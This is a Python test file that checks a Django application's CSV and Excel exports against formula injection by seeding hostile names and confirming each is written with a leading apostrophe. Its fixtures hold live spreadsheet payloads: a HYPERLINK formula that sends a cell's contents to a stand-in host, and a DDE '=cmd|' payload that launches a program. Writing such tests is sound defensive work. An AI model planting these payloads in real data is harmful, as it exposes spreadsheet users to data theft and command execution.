"""Security review, finding "formula injection": a unit renamed to
=HYPERLINK("http://x/?"&B2,"Mở") (or a person whose name starts with =, +, -, @) was written
unchanged into the training-needs CSV and the workbooks, and Excel ran it.

Every CSV and XLSX export now writes a text that a spreadsheet would read as a formula with a
leading apostrophe (OWASP, CSV injection), whatever the data already in the database holds;
numbers stay numbers. The exports are opened the way a user's spreadsheet would: CSV bytes
parsed as CSV, workbooks with openpyxl, every sheet and every cell."""

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest

from accounts.access import SYSTEM
from cadrework import evaluations, inspections
from elearning import services as elearning
from people.models import Person
from planning import services as planning
from targets.models import SourceDocument
from tests.targets.pages_world import build
from training.models import TrainingClass
from units.models import Unit
from units.services import unit_rename

# What the exports write, cell by cell, not which rows a query found (tests/databases.py):
# the SQLite run only; the same exports' queries run on both databases in the other export tests.
pytestmark = pytest.mark.one_database

HYPERLINK = '=HYPERLINK("http://x/?"&B2,"Mở")'
# What a spreadsheet reads as the start of a formula (OWASP), and the full-width forms some
# spreadsheets fold into them.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
# Hostile starts given, in turn, to the names of units, people, classes and the like.
PREFIXES = ("=1+2 ", "+84 ", "-2+3 ", "@SUM(1+1) ", "＝1+1 ")


def looks_like_formula(text: str) -> bool:
    return text.startswith(FORMULA_STARTS) or text.lstrip().startswith(FORMULA_STARTS)


def xlsx_texts(data: bytes) -> list[str]:
    """Every text cell of every sheet; a formula cell fails at once."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def csv_texts(data: bytes) -> list[str]:
    return [field for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for field in row]


def body(response) -> bytes:
    assert response.status_code == 200, response.status_code
    return b"".join(response.streaming_content) if response.streaming else response.content


def hostile(world) -> None:
    """Names as the database may already hold them: every unit, person, class, course, plan
    line and inspection finding starts with what a spreadsheet reads as a formula."""
    tree = world.tree
    unit_rename(user=SYSTEM, unit=tree.melinh, name=HYPERLINK, effective_on=tree.melinh.founded_on)
    others = Unit.objects.exclude(pk=tree.melinh.pk).order_by("pk")
    for i, unit in enumerate(others):
        unit_rename(
            user=SYSTEM,
            unit=unit,
            name=PREFIXES[i % len(PREFIXES)] + unit.name,
            effective_on=unit.founded_on,
        )
    for i, person in enumerate(Person.objects.order_by("pk")):
        person.family_name = PREFIXES[i % len(PREFIXES)] + person.family_name
        person.save()
    TrainingClass.objects.filter(pk=tree.ml_class.pk).update(name="=cmd|' /C calc'!A0")
    plan = planning.plan_create(user=tree.melinh_officer, unit=tree.melinh, year=2024)
    planning.line_save(
        user=tree.melinh_officer,
        plan=plan,
        name="-Lớp cán bộ cơ sở",
        topic=tree.topic,
        target_group="part_time",
        classes=2,
        trainees=60,
        budget=Decimal(90_000_000),
    )
    evaluations.evaluation_save(
        user=tree.melinh_officer,
        person=world.dung,
        year=2024,
        rating="good",
        votes_good=7,
        self_assessment="=1+1",
    )
    inspections.inspection_create(
        user=tree.hanoi_officer,
        inspected=tree.melinh,
        held_on=dt.date(2024, 3, 1),
        areas=["planning"],
        findings="+Thiếu kế hoạch",
        follow_ups=[{"action": "@Lập kế hoạch", "deadline": dt.date(2024, 6, 1)}],
    )
    elearning.course_save(
        user=tree.melinh_officer,
        organiser=tree.melinh,
        code="ONL-ML",
        title="=2+3 Kỹ năng thương lượng",
        hours=8,
        topics=[tree.topic],
    )


@pytest.fixture
def hostile_world(tree, settings, tmp_path):
    """Built once and replayed in each test (tests/snapshot.py); its `tree` is the one the
    build renamed."""
    from tests import snapshot

    settings.MEDIA_ROOT = tmp_path / "media"

    def make():
        world = build(tree)
        hostile(world)
        return world

    return snapshot.shared("exports_hostile_world", make)


# name: (method, url, query or form, who) — every export a list page or a report offers.
EXPORTS = {
    "units tree": ("get", "/units/", {"unit": "{hanoi}", "format": "xlsx"}, "hanoi_officer"),
    "people": ("get", "/people/", {"format": "xlsx"}, "hanoi_officer"),
    "classes": ("get", "/training/classes/", {"format": "xlsx"}, "hanoi_officer"),
    "participants": ("get", "/training/classes/{ml_class}/", {"format": "xlsx"}, "hanoi_officer"),
    "lecturers": ("get", "/training/lecturers/", {"format": "xlsx"}, "hanoi_officer"),
    "chairs": ("get", "/training/chairs/", {"unit": "{melinh}", "format": "xlsx"}, "hanoi_officer"),
    "statistics": (
        "get",
        "/training/statistics/",
        {"unit": "{hanoi}", "from": "01/01/2024", "to": "31/12/2024", "format": "xlsx"},
        "hanoi_officer",
    ),
    "targets dashboard": (
        "get",
        "/targets/",
        {"unit": "{hanoi}", "format": "xlsx"},
        "hanoi_officer",
    ),
    "needs xlsx": (
        "get",
        "/targets/needs/",
        {"unit": "{hanoi}", "format": "xlsx"},
        "hanoi_officer",
    ),
    "needs csv": ("get", "/targets/needs/", {"unit": "{hanoi}", "format": "csv"}, "hanoi_officer"),
    "consolidated plan": (
        "get",
        "/planning/consolidated/",
        {"unit": "{melinh}", "year": "2024", "format": "xlsx"},
        "melinh_officer",
    ),
    "evaluations": (
        "get",
        "/cadrework/evaluations/",
        {"unit": "{melinh}", "year": "2024", "format": "xlsx"},
        "melinh_officer",
    ),
    "inspections": ("get", "/cadrework/inspections/", {"format": "xlsx"}, "hanoi_officer"),
    "retention": (
        "get",
        "/cadrework/retention/",
        {"unit": "{hanoi}", "from": "01/01/2020", "to": "31/12/2025", "format": "xlsx"},
        "hanoi_officer",
    ),
    "retention people": (
        "get",
        "/cadrework/retention/people/",
        {"unit": "{hanoi}", "from": "01/01/2020", "to": "31/12/2025", "format": "xlsx"},
        "hanoi_officer",
    ),
    "online courses": ("get", "/elearning/courses/", {"format": "xlsx"}, "melinh_officer"),
    "report training": (
        "post",
        "/reports/training/",
        {"unit": "HN", "year": "2024", "format": "xlsx"},
        "hanoi_officer",
    ),
    "report resolution": (
        "post",
        "/reports/resolution/",
        {"unit": "HN", "on": "{today}", "document": "{document}", "format": "xlsx"},
        "hanoi_officer",
    ),
    "report structure": (
        "post",
        "/reports/structure/",
        {"unit": "HN", "on": "{today}", "format": "xlsx"},
        "hanoi_officer",
    ),
    "report needs": (
        "post",
        "/reports/needs/",
        {"unit": "HN", "on": "{today}", "format": "xlsx"},
        "hanoi_officer",
    ),
    "report plan": (
        "post",
        "/reports/plan/",
        {"unit": "HN-ML", "year": "2024", "format": "xlsx"},
        "melinh_officer",
    ),
    "own data": ("get", "/privacy/me/export/", {}, "cadre"),
    "import template": ("get", "/imports/template/", {"kind": "units"}, "hanoi_officer"),
}
# Exports whose cells hold none of the hostile names (figures under a heading naming the unit,
# or the template's labels).
NAMELESS = {"statistics", "retention", "report training", "report structure", "import template"}


def texts_of(name: str, response) -> list[str]:
    data = body(response)
    if name == "needs csv":
        return csv_texts(data)
    if name == "own data":
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            return xlsx_texts(archive.read("du-lieu-ca-nhan.xlsx"))
    return xlsx_texts(data)


@pytest.mark.parametrize("name", EXPORTS)
def test_no_cell_of_an_export_starts_a_formula(client, hostile_world, name):
    """Finding "formula injection": in every export, a text starting with =, +, -, @ (or
    their full-width forms) comes out with a leading apostrophe, never as it was."""
    tree = hostile_world.tree
    method, url, params, who = EXPORTS[name]
    ids = {
        "hanoi": tree.hanoi.pk,
        "melinh": tree.melinh.pk,
        "ml_class": tree.ml_class.pk,
        "today": hostile_world.today.strftime("%d/%m/%Y"),
        "document": SourceDocument.objects.get(code="003").pk,
    }
    url = url.format(**ids)
    params = {key: value.format(**ids) for key, value in params.items()}
    client.force_login(getattr(tree, who))
    if name in ("targets dashboard", "needs xlsx", "needs csv"):
        client.get(url, {"unit": params["unit"]})  # the page computes today's figures
    response = client.post(url, params) if method == "post" else client.get(url, params)
    texts = texts_of(name, response)
    assert [t for t in texts if looks_like_formula(t)] == []
    if name not in NAMELESS:
        assert any(t.startswith("'") and looks_like_formula(t[1:]) for t in texts), texts


def test_the_needs_csv_writes_the_renamed_unit_as_text(client, hostile_world):
    """Finding "formula injection", the CSV of the review: Mê Linh renamed to a HYPERLINK
    formula is written with a leading apostrophe, quoted as CSV requires."""
    tree = hostile_world.tree
    client.force_login(tree.hanoi_officer)
    client.get("/targets/needs/", {"unit": tree.melinh.pk})
    data = body(client.get("/targets/needs/", {"unit": tree.melinh.pk, "format": "csv"}))
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    dung = Person.objects.get(pk=hostile_world.dung.pk)
    assert dung.full_name.startswith(FORMULA_STARTS)
    row = next(row for row in rows if row[1].endswith(dung.full_name))
    assert row[1:5] == ["'" + dung.full_name, "15/01/1975", "HN-ML", "'" + HYPERLINK]
    assert '"\'=HYPERLINK(""http://x/?""&B2,""Mở"")"' in data.decode("utf-8-sig")


def test_the_needs_workbook_writes_the_renamed_unit_as_text(client, hostile_world):
    """Finding "formula injection", in the workbook beside the CSV."""
    tree = hostile_world.tree
    client.force_login(tree.hanoi_officer)
    client.get("/targets/needs/", {"unit": tree.melinh.pk})
    data = body(client.get("/targets/needs/", {"unit": tree.melinh.pk, "format": "xlsx"}))
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row if c.value == "'" + HYPERLINK]
    assert cells and all(c.data_type == "s" for c in cells)
